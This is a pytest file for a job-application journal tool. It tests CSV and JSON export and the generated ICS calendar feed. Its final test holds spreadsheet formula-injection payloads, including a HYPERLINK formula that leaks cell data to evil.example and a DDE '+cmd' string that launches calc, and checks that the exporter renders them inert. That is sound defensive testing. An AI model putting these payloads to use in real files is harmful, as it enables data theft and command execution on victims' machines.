"""`journal export` (CSV, JSON) and the calendar feed (`journal calendar`, `_site/calendar.ics`)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import icalendar
from click.testing import CliRunner

from jobjournal.cli import main
from jobjournal.journal.load import load_journal
from jobjournal.site.calendar import calendar_bytes

HISTORY = """\
---
company: Acme Robotics
role: Backend Engineer
status: rejected
applied: 2026-08-03
contacts: [jane-doe]
source: referral
link: https://acme.example/jobs/1
follow_up: 2026-12-01
remote: hybrid
history:
  - {date: 2026-08-08, status: screening}
  - {date: 2026-08-20, status: rejected, note: after the onsite}
---

## 2026-08-15 Onsite
"""


def run(*args: str):
    result = CliRunner().invoke(main, list(args), env={"JOURNAL_TODAY": "2026-11-25"})
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result


def sample(journal):
    journal.write("applications/acme.md", HISTORY)
    journal.application("globex", company="Globex", role="SRE", status="wishlist", applied=None)
    journal.contact("jane-doe", name="Jane Doe", last_contact="2026-11-01", stay_in_touch_days="45")
    journal.contact("sam", name="Sam Okafor", follow_up="2026-11-30")
    journal.contact("never", name="Never Met")
    journal.event("meetup", title="Platform meetup", date="2026-12-03", location="Library")
    journal.event("old-fair", date="2026-10-01")


def test_export_csv_has_the_tracker_columns_and_a_readable_history(journal):
    sample(journal)
    result = run("export", str(journal.root))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["Company"] for row in rows] == ["Acme Robotics", "Globex"]
    acme = rows[0]
    assert acme["Status history"] == "applied 2026-08-03 → screening 2026-08-08 → rejected 2026-08-20"
    assert acme["Contacts"] == "Jane Doe" and acme["Last activity"] == "2026-08-20"
    assert acme["Follow-up"] == "2026-12-01" and acme["Link"] == "https://acme.example/jobs/1"
    assert rows[1]["Status history"] == "wishlist" and rows[1]["Applied"] == ""


def test_export_json_carries_every_field(journal):
    sample(journal)
    records = json.loads(run("export", str(journal.root), "--format", "json").stdout)
    acme = records[0]
    assert acme["applied"] == "2026-08-03" and acme["follow_up"] == "2026-12-01"
    assert acme["history"][-1] == {
        "date": "2026-08-20",
        "status": "rejected",
        "note": "after the onsite",
        "source": "file",
        "observed": False,
    }
    assert acme["extra"] == {"remote": "hybrid"}
    assert acme["notes"][0]["date"] == "2026-08-15" and acme["notes"][0]["title"] == "Onsite"
    assert acme["contacts"] == ["jane-doe"] and acme["source"] == "referral" and acme["slug"] == "acme"


def test_export_json_carries_interviews_offers_and_documents(journal):
    """It stopped with a TypeError ("Interview is not JSON serializable") once an entry had one."""
    journal.contact("jane-doe", name="Jane Doe")
    (journal.root / "cv").mkdir()
    (journal.root / "cv" / "backend.pdf").write_bytes(b"%PDF-1.4")
    journal.application(
        "acme",
        company="Acme",
        status="offer",
        applied="2026-08-03",
        interviews="[{at: 2026-12-08 10:30, kind: onsite, with: [jane-doe], length: 90}]",
        offer="{base: 120000, currency: EUR, deadline: 2026-12-20}",
        documents="[cv/backend.pdf]",
    )
    result = run("export", str(journal.root), "--format", "json")
    assert result.exit_code == 0, result.output
    (acme,) = json.loads(result.stdout)
    (interview,) = acme["interviews"]
    assert interview["day"] == "2026-12-08" and interview["time"] == "10:30"
    assert interview["kind"] == "onsite" and interview["people"] == ["jane-doe"] and interview["length"] == 90
    assert acme["offer"]["base"] == "120000" and acme["offer"]["deadline"] == "2026-12-20"
    assert acme["documents"][0]["written"] == "cv/backend.pdf"


def test_export_to_a_file_refuses_to_overwrite_without_force(journal, tmp_path):
    sample(journal)
    out = tmp_path / "apps.csv"
    out.write_text("mine")
    refused = run("export", str(journal.root), "-o", str(out))
    assert refused.exit_code == 1 and "--force" in refused.output and out.read_text() == "mine"
    assert run("export", str(journal.root), "-o", str(out), "--force").exit_code == 0
    assert out.read_text().startswith("Company,Role,")


def events_of(data: bytes) -> dict[str, icalendar.Event]:
    calendar = icalendar.Calendar.from_ical(data)
    return {str(event["UID"]): event for event in calendar.walk("VEVENT")}


def test_calendar_has_follow_ups_stay_in_touch_and_upcoming_events(journal, tmp_path):
    sample(journal)
    journal.application(
        "initech", company="Initech", role="Platform Engineer", status="interviewing", follow_up="2026-12-01"
    )
    out = tmp_path / "journal.ics"
    result = run("calendar", str(journal.root), "-o", str(out))
    assert result.exit_code == 0, result.output
    events = events_of(out.read_bytes())
    assert set(events) == {
        "follow-up-initech@journal",  # not Acme's: it was rejected, there is nothing left to follow up
        "follow-up-sam@journal",
        "stay-in-touch-jane-doe@journal",  # last activity 2026-11-01 + 45 days; Sam and Never Met have none
        "event-meetup@journal",
    }
    assert events["follow-up-initech@journal"].decoded("DTSTART") == date(2026, 12, 1)
    assert str(events["follow-up-initech@journal"]["SUMMARY"]) == "Follow up: Platform Engineer at Initech"
    assert events["stay-in-touch-jane-doe@journal"].decoded("DTSTART") == date(2026, 12, 16)
    assert str(events["event-meetup@journal"]["LOCATION"]) == "Library"
    assert "event-old-fair@journal" not in events  # past events are not upcoming


def test_every_build_writes_the_same_calendar_and_links_it(journal, tmp_path):
    sample(journal)
    first, second = tmp_path / "a", tmp_path / "b"
    assert run("build", str(journal.root), "-o", str(first), "--today", "2026-11-25").exit_code == 0
    assert run("build", str(journal.root), "-o", str(second), "--today", "2026-11-25").exit_code == 0
    data = (first / "calendar.ics").read_bytes()
    assert data == (second / "calendar.ics").read_bytes()
    assert "follow-up-sam@journal" in events_of(data)
    assert b"DTSTAMP:20261125T000000Z" in data
    assert 'href="calendar.ics"' in (first / "index.html").read_text()
    assert 'href="../calendar.ics"' in (first / "applications" / "acme.html").read_text()
    command = run("calendar", str(journal.root))
    assert command.stdout_bytes == data


def icalendar_bytes(journal, today: date) -> bytes:
    """The feed as icalendar writes it: the reference calendar_bytes is checked against."""
    from datetime import UTC, datetime, timedelta

    from jobjournal.site.calendar import PRODID, calendar_items

    calendar = icalendar.Calendar()
    for name, value in (
        ("prodid", PRODID),
        ("version", "2.0"),
        ("calscale", "GREGORIAN"),
        ("method", "PUBLISH"),
    ):
        calendar.add(name, value)
    calendar.add("x-wr-calname", journal.settings.title)
    for item in calendar_items(journal, today):
        event = icalendar.Event()
        event.add("uid", item.uid)
        event.add("dtstamp", datetime(today.year, today.month, today.day, tzinfo=UTC))
        event.add("dtstart", item.day)
        event.add("dtend", item.day + timedelta(days=1))
        event.add("summary", item.summary)
        for name, value in (("description", item.description), ("location", item.location)):
            if value:
                event.add(name, value)
        event.add("categories", [item.category])
        event.add("transp", "TRANSPARENT")
        calendar.add_component(event)
    return calendar.to_ical()


def test_the_calendar_has_the_bytes_icalendar_would_write_for_awkward_text(journal):
    # Escapes (\ ; , and line breaks), a literal \N, non-ASCII characters and escapes on a fold boundary.
    awkward = 'Tab\there; a, b \\ c \\N d "q" ünïcødé 名前 😀 ' + "x" * 60 + "\\" + "é" * 40 + ";" * 30
    journal.application(
        "acme; inc, \\ odd",
        company=f"Acme {awkward}",
        role="Lead\\,",
        follow_up="2026-12-01",
        link="https://acme.example/jobs?q=a,b;c",
    )
    journal.contact(
        "jane", name=f"Jane {awkward}", company="Ünï, Ltd.", follow_up="2026-11-30", last_contact="2026-10-01"
    )
    journal.event("meetup", title=awkward, date="2026-12-03", location=f"Hall {awkward}")
    for width in range(60, 80):  # every position of an escape around the 75-octet fold
        journal.contact(f"c{width}", name="n" * width + ",;\\", last_contact="2026-11-01")
    loaded = load_journal(journal.root)
    ours = calendar_bytes(loaded, date(2026, 11, 25))
    assert ours == icalendar_bytes(loaded, date(2026, 11, 25))
    events = {str(e["uid"]): e for e in icalendar.Calendar.from_ical(ours).walk("VEVENT")}
    assert len(events) == 24
    assert str(events["event-meetup@journal"]["summary"]).startswith('Tab\there; a, b \\ c \n d "q" ünïcødé')


def test_a_tag_cadence_dates_the_stay_in_touch_event_as_the_reach_out_page_does(journal, tmp_path):
    journal.write("journal.toml", "[stay_in_touch]\nrecruiter = 14\n")
    journal.contact("rita", name="Rita Recruiter", last_contact="2026-11-01", tags="[recruiter]")
    result = run("build", str(journal.root), "-o", str(tmp_path / "site"), "--today", "2026-11-25")
    assert result.exit_code == 0, result.output
    event = events_of((tmp_path / "site" / "calendar.ics").read_bytes())["stay-in-touch-rita@journal"]
    assert event.decoded("DTSTART") == date(2026, 11, 15)  # 14 days, not the 30-day default
    assert "every 14 days" in str(event["DESCRIPTION"])
    assert "10 days overdue" in (tmp_path / "site" / "stale.html").read_text("utf-8")


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(journal):
    # An imported row can carry anything: opened in Excel or LibreOffice, `=HYPERLINK(...)` would run.
    journal.application(
        "evil",
        company='\'=HYPERLINK("http://evil.example/?leak="&B3,"Click me")\'',
        role="\"+cmd|' /C calc'!A0\"",
        source='"@SUM(1+1)"',
        location='"-2+3"',
        salary='"-5"',
        applied="2026-11-02",
    )
    result = run("export", str(journal.root))
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["Company"] == '\'=HYPERLINK("http://evil.example/?leak="&B3,"Click me")'
    assert (
        row["Role"] == "'+cmd|' /C calc'!A0" and row["Source"] == "'@SUM(1+1)" and row["Location"] == "'-2+3"
    )
    assert row["Salary"] == "-5"  # a plain number runs nothing: left as it is
    exported = json.loads(run("export", str(journal.root), "--format", "json").stdout)
    assert exported[0]["company"].startswith("=HYPERLINK")  # JSON is not a spreadsheet: as written
